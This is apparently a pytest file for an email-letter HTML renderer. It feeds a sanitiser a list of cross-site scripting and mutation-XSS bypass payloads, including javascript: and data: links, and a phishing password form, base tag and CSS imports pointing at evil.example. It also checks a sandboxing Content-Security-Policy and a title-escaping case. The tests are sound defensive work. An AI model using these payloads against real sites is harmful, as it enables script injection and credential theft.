"""Row 31. Sanitisers were talked past: mutation, namespaces, nested tags in a home-made stripper.

The sanitiser is the second wall. It knows no svg, math or style; and the frame holds where it fails.
"""

import pytest

from amends.look import letter_html
from tests.incidents.frames import body_of, wrong_in
from tests.incidents.letterbox import comes, letter
from tests.pages import Browser, case_path

PAST = {
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg and desc": "<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>",
    "nested tags": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a select": "<select><template><style></select><img src=x onerror=alert(1)></style></template></select>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "xmp": '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
    "a comment that ends oddly": "<!--!><img src=x onerror=alert(1)>--!>",
    "a processing instruction": "<?xml <img src=x onerror=alert(1)>?>",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "an attribute without a space": "<img/src=x/onerror=alert(1)>",
    "a null in a name": "<img src=x on\0error=alert(1)><scr\0ipt>alert(1)</scr\0ipt>",
    "an unclosed tag": "<img src=x onerror=alert(1) ",
    "an unclosed quote": '<a href="javascript:alert(1)',
    "a script link": '<a href="javascript:alert(1)">x</a>',
    "a script link in disguise": '<a href=" &#1;j&#x61;v&#97;script&colon;alert(1)">x</a><a href="java\nscript:alert(1)">y</a>',
    "a data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a data link in base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "a file link": '<a href="file:///etc/passwd">x</a><a href="blob:x">y</a><a href="view-source:x">z</a>',
    "a base": '<base href="https://evil.example/"><a href="x">x</a>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "an object": '<object data="x"></object><embed src=x><applet code=x>',
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a form of a password": '<form action="https://evil.example"><input type="password" name="p"><button formaction="https://evil.example">Sign in</button></form>',
    "a name that shadows ours": '<a id="document" name="cookie"></a><img name="body"><form name="forms">',
    "style that covers the page": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">Sign in</div>',
    "style in a tag": '<style>@import url(https://evil.example/x.css);</style><p style="background:url(https://evil.example)">x</p>',
    "style escaped": '<p style="background-image:u\\72l(https://evil.example/x);color:expression(alert(1))">x</p>',
    "an image of svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "ten thousand tags deep": "<div>" * 10_000 + "<img src=x onerror=alert(1)>",
    "an import of html": '<link rel="import" href="https://evil.example"><link rel=stylesheet href=//evil.example>',
}


@pytest.mark.parametrize("name", PAST)
def test_nothing_that_acts_gets_past_the_second_wall(name):
    html = letter_html.framed(PAST[name], "Subject", lambda named: None)
    assert not wrong_in(body_of(html)), body_of(html)[:300]


@pytest.mark.parametrize("name", PAST)
def test_what_it_made_is_the_same_when_it_is_read_once_more(name):
    """Mutation needs a second reading that differs from the first."""
    once = body_of(letter_html.framed(PAST[name], "Subject", lambda named: None))
    assert not wrong_in(body_of(letter_html.framed(once, "Subject", lambda named: None)))


def test_the_first_wall_stands_when_the_second_has_fallen(desk, monkeypatch):
    monkeypatch.setattr(letter_html.nh3, "clean", lambda html, **_: html)
    desk.case = comes(desk, letter("Words.", html="<script>parent.alert(1)</script>")).case
    answer = Browser(desk.sam).get(f"{case_path(desk)}letters/1/layout/")
    assert "<script>" in answer.content.decode()  # the wall has fallen
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox ") and "default-src 'none'" in policy
    assert not {"allow-scripts", "allow-same-origin", "allow-forms", "allow-top-navigation"} & set(
        policy.partition(";")[0].split()
    )
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN" and "form-action 'none'" in policy


def test_a_letters_subject_does_not_break_out_of_the_frames_title(desk):
    subject = "</title><script>alert(1)</script>{body}{0.__class__}"
    desk.case = comes(desk, letter("Words.", html="<p>Words</p>", Subject=subject)).case
    html = Browser(desk.sam).get(f"{case_path(desk)}letters/1/layout/").content.decode()
    assert "<script>" not in html and html.count("</title>") == 1
